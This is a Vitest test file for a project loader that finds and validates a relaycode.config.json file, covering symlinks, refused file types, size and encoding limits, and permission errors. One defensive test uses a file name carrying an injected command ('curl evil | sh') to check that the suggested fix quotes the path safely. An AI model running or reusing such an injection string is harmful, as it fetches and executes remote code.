import { describe, expect, it } from 'vitest'
import { loadProject } from '../../src/project/load-project.ts'
import { readConfig } from '../../src/project/read-config.ts'
import { failure } from '../support/failure.ts'
import { diskError } from '../support/fake-disk.ts'
import { type FakeSystemOptions, fakeSystem } from '../support/fake-system.ts'

const config = '{"projectId": "my-app"}'

function load(options: FakeSystemOptions, prepare?: (world: ReturnType<typeof fakeSystem>) => void) {
  const world = fakeSystem(options)
  prepare?.(world)
  return loadProject(world.system)
}

describe('loadProject', () => {
  it('answers the root and the whole configuration, with the notes about it', async () => {
    const text = '{"projectId": "my-app", "aproval": "no"}'
    const read = readConfig(text)
    expect(await load({ files: { 'relaycode.config.json': text } })).toEqual({
      project: { root: '/project', config: read.kind === 'config' && read.config },
      notes: ['unknown key "aproval"; did you mean "approval"?'],
    })
  })

  it('takes the nearest configuration upwards', async () => {
    const files = {
      'relaycode.config.json': config,
      'packages/ui/relaycode.config.json': '{"projectId": "ui"}',
      'packages/ui/src/a.ts': '',
    }
    expect(await load({ files, cwd: '/project/packages/ui/src' })).toMatchObject({
      project: { root: '/project/packages/ui', config: { projectId: 'ui' } },
    })
    expect(await load({ files, cwd: '/project/packages' })).toMatchObject({
      project: { root: '/project', config: { projectId: 'my-app' } },
    })
  })

  it('takes one in the root of the disk', async () => {
    expect(await load({ files: { '/relaycode.config.json': config } })).toMatchObject({ project: { root: '/' } })
  })

  it('names the root by its real path', async () => {
    const loading = load({ files: { 'relaycode.config.json': config, 'src/a.ts': '' }, cwd: '/short' }, ({ disk }) => {
      disk.symlink('/project/src', '/short')
    })
    expect(await loading).toMatchObject({ project: { root: '/project' } })
  })

  it('says what to do where there is none', async () => {
    expect(await failure(load({ files: { 'src/a.ts': '' }, cwd: '/project/src' }))).toEqual({
      kind: 'usage',
      message: 'No relaycode.config.json in /project/src or above',
      hint: 'Run `relay --init` in your project first.',
    })
  })

  it('says the same where the folder itself is gone', async () => {
    expect(await failure(load({ cwd: '/gone' }))).toMatchObject({
      message: 'No relaycode.config.json in /gone or above',
    })
  })

  it('lists every problem, one a line, and does not go on to a project further up', async () => {
    const files = { 'relaycode.config.json': config, 'in/relaycode.config.json': '{"approval": 1, "linter": 2}' }
    expect(await failure(load({ files, cwd: '/project/in' }))).toEqual({
      kind: 'usage',
      message: [
        'Cannot use /project/in/relaycode.config.json:',
        '  projectId is missing; allowed: a text on one line, not blank, without control or invisible characters, at most 200 long',
        '  approval: found 1, allowed: "yes", "no" or "never"',
        '  linter: found 2, allowed: a shell command as text, a list of commands, or "" for none',
      ].join('\n'),
      hint: 'Correct it in your editor: /project/in/relaycode.config.json',
    })
  })

  it('follows a link to a file of the same project', async () => {
    const loading = load({ files: { 'etc/relay.json': config } }, ({ disk }) => {
      disk.symlink('etc/relay.json', '/project/relaycode.config.json')
    })
    expect(await loading).toMatchObject({ project: { root: '/project', config: { projectId: 'my-app' } } })
  })

  it.each<[string, (world: ReturnType<typeof fakeSystem>) => void, string]>([
    [
      'a link out of the project',
      ({ disk }) => {
        disk.write('/elsewhere/relay.json', config)
        disk.symlink('/elsewhere/relay.json', 'relaycode.config.json')
      },
      '/project/relaycode.config.json leads out of the project, to /elsewhere/relay.json',
    ],
    [
      'a link into a folder with a longer name',
      ({ disk }) => {
        disk.write('/project2/relay.json', config)
        disk.symlink('/project2/relay.json', 'relaycode.config.json')
      },
      '/project/relaycode.config.json leads out of the project, to /project2/relay.json',
    ],
    [
      'a link to nothing',
      ({ disk }) => disk.symlink('gone.json', 'relaycode.config.json'),
      '/project/relaycode.config.json is a link that leads nowhere',
    ],
    ['a folder', ({ disk }) => disk.folder('relaycode.config.json'), '/project/relaycode.config.json is a folder'],
    [
      'a FIFO',
      ({ disk }) => disk.fifo('relaycode.config.json'),
      '/project/relaycode.config.json is not a regular file',
    ],
    [
      'more than a megabyte',
      ({ disk }) => disk.write('relaycode.config.json', ' '.repeat(1_000_001)),
      '/project/relaycode.config.json has 1000001 bytes; at most 1000000 are read',
    ],
    [
      'UTF-16',
      ({ disk }) => disk.write('relaycode.config.json', Buffer.from(`\ufeff${config}`, 'utf16le')),
      '/project/relaycode.config.json is not UTF-8 text',
    ],
  ])('refuses %s', async (_, prepare, message) => {
    expect(await failure(load({}, prepare))).toMatchObject({ kind: 'usage', message, hint: expect.any(String) })
  })

  it('gives a command that runs nothing else, whatever the link leads to is called', async () => {
    const loading = load({}, ({ disk }) => {
      disk.write('/x; curl evil | sh #/relay.json', config)
      disk.symlink('/x; curl evil | sh #/relay.json', 'relaycode.config.json')
    })
    expect(await failure(loading)).toMatchObject({
      hint: "Put a regular file in its place: `rm -- /project/relaycode.config.json && cp -- '/x; curl evil | sh #/relay.json' /project/relaycode.config.json`",
    })
  })

  it('says it when the file may not be read', async () => {
    const loading = load({ files: { 'relaycode.config.json': config } }, ({ disk }) => {
      disk.onCall = name => {
        if (name === 'read') throw diskError('EACCES')
      }
    })
    expect(await failure(loading)).toMatchObject({
      kind: 'environment',
      message: 'Cannot read relaycode.config.json: permission denied',
    })
  })
})
